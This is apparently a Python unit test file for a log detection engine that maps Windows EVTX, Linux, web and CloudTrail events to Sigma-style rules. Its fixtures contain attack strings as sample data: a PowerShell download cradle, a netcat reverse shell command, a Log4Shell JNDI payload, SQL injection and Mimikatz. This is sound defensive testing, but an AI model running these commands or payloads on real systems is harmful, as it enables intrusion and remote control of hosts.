"""Logsource mappings: EVTX shapes and categories, generic ECS-like events, user mapping files, event time."""
from __future__ import annotations

from pathlib import Path

from benchmarks.generate import generate
from opmas.core.event import parse_time
from opmas.core.envelope import event_from_obj
from opmas.core.logsource import builtin_mappings, evtx_parts, evtx_plan, flatten_evtx
from opmas.core.detector import Detector
from tests.unit.engine.conftest import load_ok, matched_ids, rule_text

SYSMON = "Microsoft-Windows-Sysmon/Operational"
WHOAMI = "C:\\Windows\\System32\\whoami.exe"
PROC_RULE = rule_text("  selection:\n    Image|endswith: '\\whoami.exe'\n    User: 'alice'\n  condition: selection\n",
                      "{category: process_creation, product: windows}", "proc")


def sysmon(event_id: int, **data: object) -> dict:
    return {"Event": {"System": {"Provider": {"@Name": "Microsoft-Windows-Sysmon"}, "EventID": event_id,
                                 "Channel": SYSMON, "Computer": "pc1",
                                 "TimeCreated": {"@SystemTime": "2024-03-01T10:00:00.1234567Z"}},
                      "EventData": dict(data)}}


def security_4688_xml_style(image: str, user: str) -> dict:
    """As xmltodict-based converters write it: EventID with #text, Data items with @Name/#text."""
    return {"Event": {"System": {"Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
                                 "EventID": {"@Qualifiers": "", "#text": "4688"}, "Channel": "Security"},
                      "EventData": {"Data": [{"@Name": "NewProcessName", "#text": image},
                                             {"@Name": "SubjectUserName", "#text": user},
                                             {"@Name": "ParentProcessName", "#text": "C:\\Windows\\explorer.exe"}]}}}


def test_process_creation_is_sysmon_1_and_security_4688_with_renames() -> None:
    ruleset = load_ok(PROC_RULE)
    assert matched_ids(ruleset, [sysmon(1, Image=WHOAMI, User="alice")]) == ["proc"]
    assert matched_ids(ruleset, [security_4688_xml_style(WHOAMI, "alice")]) == ["proc"]
    # same fields, other event ids or channels: not process creation
    assert matched_ids(ruleset, [sysmon(3, Image=WHOAMI, User="alice")]) == []
    other = security_4688_xml_style(WHOAMI, "alice")
    other["Event"]["System"]["EventID"]["#text"] = "4624"
    assert matched_ids(ruleset, [other]) == []
    app = sysmon(1, Image=WHOAMI, User="alice")
    app["Event"]["System"]["Channel"] = "Application"
    assert matched_ids(ruleset, [app]) == []


def test_evtx_dump_attributes_layout_and_system_fields() -> None:
    event = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                       "System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}},
                                  "EventID": 7045, "Channel": "System", "Computer": "srv",
                                  "Execution": {"#attributes": {"ProcessID": 788, "ThreadID": 792}},
                                  "TimeCreated": {"#attributes": {"SystemTime": "2024-03-01T10:00:00Z"}}},
                       "EventData": {"ServiceName": "MpKsl4eaa0a76", "ImagePath": "C:\\evil.sys"}}}
    flat = flatten_evtx(event)
    assert flat["Provider_Name"] == "Service Control Manager" and flat["Execution_ProcessID"] == 788
    assert flat["ServiceName"] == "MpKsl4eaa0a76" and flat["EventID"] == 7045
    rule = rule_text("  selection:\n    Provider_Name: 'Service Control Manager'\n    EventID: 7045\n"
                     "    ImagePath|endswith: '.sys'\n  condition: selection\n", "{product: windows, service: system}", "svc")
    ruleset = load_ok(rule)
    events = [event_from_obj(event)]
    findings = Detector(ruleset).process(events)
    assert [f.rule_id for f in findings] == ["svc"] and events[0].timestamp == parse_time("2024-03-01T10:00:00Z")
    security = load_ok(rule.replace("service: system", "service: security"))
    assert matched_ids(security, [event]) == []


def test_userdata_fields_and_ps_script_category() -> None:
    event = {"Event": {"System": {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational"},
                       "EventData": {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x')"}}}
    ruleset = load_ok(rule_text("  selection:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: selection\n",
                                "{product: windows, category: ps_script}", "ps"))
    assert matched_ids(ruleset, [event]) == ["ps"]
    user_data = {"Event": {"System": {"EventID": 1102, "Channel": "Security"},
                           "UserData": {"LogFileCleared": {"SubjectUserName": "mallory"}}}}
    cleared = load_ok(rule_text("  selection:\n    EventID: 1102\n    SubjectUserName: mallory\n  condition: selection\n",
                                "{product: windows, service: security}", "clear"))
    assert matched_ids(cleared, [user_data]) == ["clear"]


def test_product_only_rule_applies_to_every_windows_event() -> None:
    ruleset = load_ok(rule_text("  selection:\n    Computer: pc1\n  condition: selection\n", "{product: windows}", "win"))
    assert matched_ids(ruleset, [sysmon(1), sysmon(11)]) == ["win", "win"]
    assert matched_ids(ruleset, [{"event": {"dataset": "linux.auth"}, "Computer": "pc1"}]) == []


def test_evtx_plan_agrees_with_full_flatten() -> None:
    names = ("Image", "CommandLine", "EventID", "Channel", "Provider_Name", "TimeCreated_SystemTime",
             "Execution_ProcessID", "NewProcessName", "Missing", "Security_UserID", "ProcessId",
             "EventID_Qualifiers", "Keywords", "Keywords_a", "Provider_Guid")
    read = evtx_plan(names)
    odd_system = {"Event": {"System": {"EventID": {"#text": "4688", "@Qualifiers": ""}, "Provider": {"Name": "x"},
                                       "Keywords": {"@a": 1}, "Channel": "Security"},
                            "EventData": {"Image": "a", "Channel": "shadows System"}}}
    dump_layout = {"Event": {"System": {"Provider": {"#attributes": {"Name": "SCM", "Guid": "{1}"}}, "EventID": 7045,
                                        "Execution": {"#attributes": {"ProcessID": 788}},
                                        "TimeCreated": {"#attributes": {"SystemTime": "2024-03-01T10:00:00Z"}}},
                             "EventData": {"ImagePath": "C:\\evil.sys"}}}
    samples = list(generate("windows", 200, seed=3)) + [security_4688_xml_style(WHOAMI, "bob"), odd_system, dump_layout]
    for event in samples:
        full = flatten_evtx(event)
        assert read(evtx_parts(event)) == {n: full[n] for n in names if n in full}


def test_generic_linux_auth_services() -> None:
    rules = (rule_text("  selection:\n    message|contains: 'Failed password'\n  condition: selection\n",
                       "{product: linux, service: sshd}", "sshd")
             + "---\n" + rule_text("  selection:\n    user.name: root\n  condition: selection\n",
                                   "{product: linux, service: auth}", "auth")
             + "---\n" + rule_text("  keywords: ['COMMAND=/bin/bash']\n  condition: keywords\n",
                                   "{product: linux, service: sudo}", "sudo"))
    ruleset = load_ok(rules)
    sshd = {"event": {"dataset": "linux.auth"}, "process": {"name": "sshd"}, "user": {"name": "root"},
            "message": "Failed password for root from 203.0.113.5 port 4711 ssh2"}
    sudo = {"event": {"dataset": "linux.auth"}, "process": {"name": "sudo"}, "user": {"name": "bob"},
            "message": "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"}
    assert matched_ids(ruleset, [sshd]) == ["sshd", "auth"]
    assert matched_ids(ruleset, [sudo]) == ["sudo"]
    assert matched_ids(ruleset, [{**sshd, "event": {"dataset": "web.access"}}]) == []


def test_generic_linux_process_creation_and_webserver_field_names() -> None:
    ruleset = load_ok(
        rule_text("  selection:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n    User: www-data\n"
                  "  condition: selection\n", "{product: linux, category: process_creation}", "nc")
        + "---\n" + rule_text("  selection:\n    cs-uri-query|contains: 'union select'\n    sc-status: 200\n"
                              "  condition: selection\n", "{category: webserver}", "sqli"))
    process = {"event": {"dataset": "linux.process"}, "user": {"name": "www-data"},
               "process": {"executable": "/usr/bin/nc", "command_line": "nc -e /bin/sh 1.2.3.4 80"}}
    web = {"event": {"dataset": "web.access"}, "url": {"query": "id=1 UNION SELECT pass"},
           "http": {"response": {"status_code": 200}}}
    assert matched_ids(ruleset, [process, web]) == ["nc", "sqli"]


def test_cloudtrail_raw_records_and_dataset() -> None:
    ruleset = load_ok(rule_text("  selection:\n    eventSource: iam.amazonaws.com\n    eventName: CreateUser\n"
                                "    userIdentity.type: Root\n  condition: selection\n",
                                "{product: aws, service: cloudtrail}", "ct"))
    raw = {"eventVersion": "1.08", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
           "userIdentity": {"type": "Root"}, "eventTime": "2024-03-01T10:00:00Z"}
    no_version = {k: v for k, v in raw.items() if k != "eventVersion"}
    tagged = {**no_version, "event": {"dataset": "aws.cloudtrail"}}
    assert matched_ids(ruleset, [raw, no_version, tagged]) == ["ct", "ct"]
    events = [event_from_obj(raw)]
    Detector(ruleset).process(events)
    assert events[0].timestamp == parse_time("2024-03-01T10:00:00Z")


def test_user_mapping_file_takes_precedence(tmp_path: Path) -> None:
    mapping = tmp_path / "fw.yml"
    mapping.write_text(
        "name: acme-firewall\nrecognize:\n  exists: [fw.action]\n  equals: {vendor: acme}\nflatten: dotted\n"
        "product: acme\ntime: [ts]\nkeywords: [raw]\nlogsources:\n  - category: firewall\n"
        "    when: {fw.action: [deny, drop]}\n    fields: {dst_port: fw.dport, action: fw.action}\n")
    ruleset = load_ok(rule_text("  selection:\n    dst_port: 3389\n    action: deny\n  condition: selection\n",
                                "{product: acme, category: firewall}", "fw"), mappings=[mapping])
    assert ruleset.mappings[0].name == "acme-firewall"
    deny = {"vendor": "acme", "ts": "2024-03-01T10:00:00Z", "fw": {"action": "deny", "dport": 3389}}
    allow = {"vendor": "acme", "fw": {"action": "allow", "dport": 3389}}
    other_vendor = {"vendor": "other", "fw": {"action": "deny", "dport": 3389}}
    assert matched_ids(ruleset, [deny, allow, other_vendor]) == ["fw"]
    events = [event_from_obj(deny)]
    Detector(ruleset).process(events)
    assert events[0].timestamp == parse_time("2024-03-01T10:00:00Z")


def test_user_mapping_names_are_case_insensitive(tmp_path: Path) -> None:
    mapping = tmp_path / "pa.yml"
    mapping.write_text("name: pa\nrecognize:\n  exists: [pa.action]\nproduct: PaloAlto\nlogsources:\n"
                       "  - category: Firewall\n    when: {pa.type: TRAFFIC}\n")
    ruleset = load_ok(rule_text("  selection:\n    pa.action: deny\n  condition: selection\n",
                                "{product: paloalto, category: firewall}", "pa"), mappings=[mapping])
    assert matched_ids(ruleset, [{"pa": {"type": "TRAFFIC", "action": "deny"}},
                                 {"pa": {"type": "THREAT", "action": "deny"}}]) == ["pa"]


def test_builtin_mappings_are_valid_and_ordered() -> None:
    mappings = builtin_mappings()
    windows, generic = mappings[0], mappings[-1]  # Windows first (most events), the fallback last
    assert windows.product == "windows" and windows.discriminator_fields == ("Channel", "EventID")
    assert generic.recognizes({"anything": 1}) and not windows.recognizes({"Event": {}})


def test_the_fast_path_of_parse_time_agrees_with_the_general_one() -> None:
    from opmas.core.event import _epoch, _utc_text

    values = ["2024-01-01T00:00:00.123456789Z", "2024-01-01 00:00:00.123Z", "2024-01-01T00:00:00+02:00",
              1700000000, "2026-11-25T05:33:00Z", "2026-13-25T05:33:00Z", "2024-01-01T00:00:00.12x4Z", "nonsense"]
    values += [e["Event"]["System"]["TimeCreated"]["@SystemTime"] for e in generate("windows", 500, seed=4)]
    fast = 0
    for value in values:
        if isinstance(value, str) and (quick := _utc_text(value)) is not None:
            fast += 1
            assert quick == _epoch(value), value
        assert parse_time(value) == _epoch(value), value
    assert fast > 500


def test_odd_shaped_events_never_break_the_processor() -> None:
    """Random nested junk (EVTX-like and generic) goes through every rule without an exception."""
    import random

    from benchmarks.bench_rules import bench_rules
    from opmas.core.ruleset import load_ruleset, sources_from_paths
    from opmas.paths import RULES_DIR

    ruleset, _ = load_ruleset(sources_from_paths([RULES_DIR]) + bench_rules(50))
    detector = Detector(ruleset)
    rng = random.Random(1)
    keys = ["Event", "System", "EventData", "UserData", "Data", "@Name", "Name", "#text", "#attributes", "EventID",
            "Channel", "", "event", "dataset", "process", "message", "Image", "CommandLine", "eventSource",
            "eventVersion", "TimeCreated", "@SystemTime", "user", "url", "@timestamp"]
    values = [None, True, 1, 4688, -1.5, "", "Security", SYSMON, "linux.auth", "web.access", "sshd",
              "C:\\x\\cmd.exe", "2024-01-01T00:00:00Z", "not-a-time", "10.0.0.1", [], {}, ["a", 1, None]]

    def junk(depth: int = 0) -> object:
        roll = rng.random()
        if depth > 4 or roll < 0.3:
            return rng.choice(values)
        if roll < 0.45:
            return [junk(depth + 1) for _ in range(rng.randrange(4))]
        return {rng.choice(keys): junk(depth + 1) for _ in range(rng.randrange(5))}

    count = 0
    for _ in range(3000):
        data = {"Event": {"System": junk(1), "EventData": junk(1), "UserData": junk(1)}} if rng.random() < 0.4 else junk()
        if isinstance(data, dict):
            detector.process([event_from_obj(data)])
            count += 1
    assert detector.stats.events == count > 1000


def test_network_connection_from_sysmon_3_and_security_5156() -> None:
    ruleset = load_ok(rule_text("  selection:\n    DestinationPort: 4444\n    Image|endswith: '\\powershell.exe'\n"
                                "  condition: selection\n", "{category: network_connection, product: windows}", "net"))
    sysmon3 = sysmon(3, Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", DestinationPort=4444)
    wfp = {"Event": {"System": {"EventID": 5156, "Channel": "Security"},
                     "EventData": {"Application": "\\device\\harddiskvolume2\\windows\\system32\\windowspowershell\\v1.0\\"
                                                  "powershell.exe", "DestPort": "4444", "DestAddress": "203.0.113.9"}}}
    assert matched_ids(ruleset, [sysmon3, wfp, sysmon(1, Image="x\\powershell.exe", DestinationPort=4444)]) == ["net", "net"]
    core = {"Event": {"System": {"EventID": 4104, "Channel": "PowerShellCore/Operational"},
                      "EventData": {"ScriptBlockText": "Invoke-Mimikatz"}}}
    script = load_ok(rule_text("  s:\n    ScriptBlockText|contains: mimikatz\n  condition: s\n",
                               "{category: ps_script, product: windows}", "ps"))
    assert matched_ids(script, [core]) == ["ps"]


def security_4688(new_pid: str = "0x325b", creator_pid: str = "0x1d49", xml_style: bool = False) -> dict:
    """A Security 4688 event: ``ProcessId`` is the creator's id, ``NewProcessId`` the new process's."""
    data = {"NewProcessName": WHOAMI, "NewProcessId": new_pid, "ProcessId": creator_pid,
            "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "alice"}
    event_data = {"Data": [{"@Name": k, "#text": v} for k, v in data.items()]} if xml_style else data
    return {"Event": {"System": {"EventID": 4688, "Channel": "Security",
                                 "TimeCreated": {"@SystemTime": "2024-03-01T10:00:00Z"}},
                      "EventData": event_data}}


def _pid_rule(rule_id: str, logsource: str, pid: str) -> str:
    return rule_text(f"  s:\n    ProcessId: '{pid}'\n  condition: s\n", logsource, rule_id,
                     "finding:\n  title: 'pid {ProcessId} image {Image}'\n")


SECURITY = "{product: windows, service: security}"
PROCESS_CREATION = "{product: windows, category: process_creation}"


def test_security_4688_renames_apply_to_process_creation_rules_only() -> None:
    """In one rule set, a process_creation rule sees ProcessId = NewProcessId (and Image = NewProcessName)
    on a 4688 event; a ``service: security`` rule sees the event's own ProcessId (and no Image)."""
    ruleset = load_ok("---\n".join([_pid_rule("sec-raw", SECURITY, "0x1d49"), _pid_rule("proc-new", PROCESS_CREATION, "0x325b"),
                                     _pid_rule("sec-new", SECURITY, "0x325b"), _pid_rule("proc-raw", PROCESS_CREATION, "0x1d49")]))
    for event in (security_4688(), security_4688(xml_style=True)):
        findings = Detector(ruleset).process([event_from_obj(event)])
        assert [(f.rule_id, f.title) for f in findings] == [("sec-raw", "pid 0x1d49 image -"),
                                                             ("proc-new", f"pid 0x325b image {WHOAMI}")]
    from opmas.core.dispatch import RuleIndex

    index = RuleIndex(ruleset)
    view = index.view(security_4688())
    assert len(view.group.lenses) == 2
    seen = {rule.id: (view.flat["ProcessId"], view.field("Image")) for rule in index.matches(view)}
    assert seen == {"sec-raw": ("0x1d49", None), "proc-new": ("0x325b", WHOAMI)}
    logon = {"Event": {"System": {"EventID": 4624, "Channel": "Security"}, "EventData": {"ProcessId": "0x1d49"}}}
    view = index.view(logon)
    assert len(view.group.lenses) == 1 and [rule.id for rule in index.matches(view)] == ["sec-raw"]


def test_correlations_group_by_the_fields_each_rule_sees() -> None:
    """Two 4688 events from one creator: grouped by ProcessId, the security rule's correlation counts
    them together (the creator's id), the process_creation rule's apart (each new process's id)."""
    def count(rule_id: str, name: str) -> str:
        return (f"title: {rule_id}\nid: {rule_id}\ncorrelation:\n  type: event_count\n  rules: [{name}]\n"
                "  group-by: [ProcessId]\n  timespan: 60s\n  condition: {gte: 2}\nlevel: high\n")
    ruleset = load_ok("---\n".join([
        rule_text("  s:\n    EventID: 4688\n  condition: s\n", SECURITY, "sec", "name: sec\n"),
        rule_text("  s:\n    Image|endswith: '\\whoami.exe'\n  condition: s\n", PROCESS_CREATION, "proc", "name: proc\n"),
        count("sec-burst", "sec"), count("proc-burst", "proc")]))
    detector = Detector(ruleset)
    findings = detector.process([event_from_obj(security_4688(new_pid=pid)) for pid in ("0x1", "0x2")])
    findings += detector.flush()
    bursts = [(f.rule_id, f.details["group"]) for f in findings if f.rule_id.endswith("-burst")]
    assert bursts == [("sec-burst", {"ProcessId": "0x1d49"})]


def test_event_view_field_by_sigma_name_or_path() -> None:
    from opmas.core.dispatch import RuleIndex

    index = RuleIndex(load_ok(PROC_RULE))
    view = index.view(security_4688_xml_style(WHOAMI, "alice"))
    assert view.partial and view.field("Image") == WHOAMI and view.field("User") == "alice"
    assert view.field("Event.System.Channel") == "Security" and view.field("Nope") is None


def test_groups_are_shared_by_discriminators_with_the_same_logsources() -> None:
    from opmas.core.dispatch import RuleIndex

    index = RuleIndex(load_ok(rule_text("  s:\n    Image|endswith: '/nc'\n  condition: s\n",
                                        "{product: linux, category: process_creation}", "nc")))
    views = [index.view({"event": {"dataset": "linux.process"}, "process": {"name": f"p{i}", "executable": "/bin/x"}})
             for i in range(300)]
    assert len({id(v.group) for v in views}) == 1 and len(views[0].group.rules) == 1
    sshd = index.view({"event": {"dataset": "linux.auth"}, "process": {"name": "sshd"}})
    assert sshd.group is not views[0].group and sshd.group.rules == ()


def test_web_keywords_search_parsed_fields_without_a_message() -> None:
    """A web agent that sends only parsed fields (no raw line) still hits keyword rules."""
    ruleset = load_ok(rule_text("  keywords: ['${jndi:ldap:/']\n  condition: keywords",
                                logsource="{category: webserver}"))
    event = {"event": {"dataset": "web.access"}, "url": {"original": "/"},
             "user_agent": {"original": "${jndi:ldap://203.0.113.7:1389/a}"}}
    assert matched_ids(ruleset, [event]) == ["test-rule"]
    event["user_agent"]["original"] = "curl/8.5.0"
    assert matched_ids(ruleset, [event]) == []
